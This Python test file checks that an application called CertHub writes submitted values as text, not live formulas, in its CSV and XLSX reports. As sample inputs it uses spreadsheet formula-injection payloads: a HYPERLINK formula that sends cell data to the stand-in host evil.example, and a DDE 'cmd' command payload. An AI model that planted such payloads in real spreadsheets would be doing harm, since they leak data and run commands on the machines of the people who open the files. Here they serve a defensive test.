"""A submission's report repeats what the submitter sent — values and the upload's file name — and an officer
opens it in a spreadsheet: a text a spreadsheet would run as a formula is written as text, in CSV and XLSX
(C14; core.spreadsheets, the one rule for every file CertHub writes)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from certhub.core.spreadsheets import CsvWriter, append_row, csv_text
from certhub.exchange.choices import SubmissionChannel, SubmissionMode
from certhub.exchange.pipeline import Options, submit_file
from certhub.exchange.reports import report_csv, report_xlsx

pytestmark = pytest.mark.django_db

HEADER = "报告编号,签发日期,授权签字人,检验结论,委托单位统一社会信用代码,样品名称,检测项目,检测依据,检测结果\r\n"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
COMMAND = "+cmd|' /C calc'!A0"
FILE_NAME = "=1+1.csv"


@pytest.fixture
def submission(world, tmp_path, settings):
    settings.SUBMISSION_DIR = tmp_path / "archive"
    path = tmp_path / "upload.csv"
    row = io.StringIO()
    csv.writer(row, lineterminator="\r\n").writerow(
        ["BG-2026-0101", HYPERLINK, COMMAND, "合格", "", "电饭锅", "绝缘电阻", "GB 4706.1-2005", "符合"]
    )
    path.write_bytes((HEADER + row.getvalue()).encode("utf-8"))
    options = Options(kind="reports", mode=SubmissionMode.ALL_OR_NOTHING, channel=SubmissionChannel.COMMAND)
    return submit_file(path, FILE_NAME, world.organizations["lab"], options, actor=world.actor("lab"))


def test_the_csv_report_writes_formulas_as_text(submission):
    rows = list(csv.reader(io.StringIO(b"".join(report_csv(submission)).decode("utf-8-sig"))))
    values = {row[1]: row[2] for row in rows[1:]}
    assert values["issue_date"] == "'" + HYPERLINK
    assert values["signatory"] == "'" + COMMAND
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row)


def test_the_xlsx_report_keeps_the_text_and_never_writes_a_formula(submission):
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(submission)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.value for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {HYPERLINK, COMMAND, FILE_NAME} <= texts
    summary = {row[0].value: row[1].value for row in book.worksheets[0].iter_rows()}
    assert summary["文件"] == FILE_NAME


def test_the_one_rule_for_every_cell():
    assert [csv_text(v) for v in ("=A1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "湘江", "", "a=b")] == [
        "'=A1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "湘江",
        "",
        "a=b",
    ]
    out = io.StringIO()
    CsvWriter(out, lineterminator="\n").writerow(["=1", -1, 2.5, None, "x"])
    assert out.getvalue() == "'=1,-1,2.5,,x\n"  # numbers stay numbers: they are never formulas
    for write_only in (True, False):
        book = openpyxl.Workbook(write_only=write_only)
        sheet = book.create_sheet("s") if write_only else book.active
        append_row(sheet, ["=1+1", 3, "x"])
        data = io.BytesIO()
        book.save(data)
        row = next(openpyxl.load_workbook(data).worksheets[0].iter_rows())
        assert [(c.value, c.data_type) for c in row] == [("=1+1", "s"), (3, "n"), ("x", "s")]
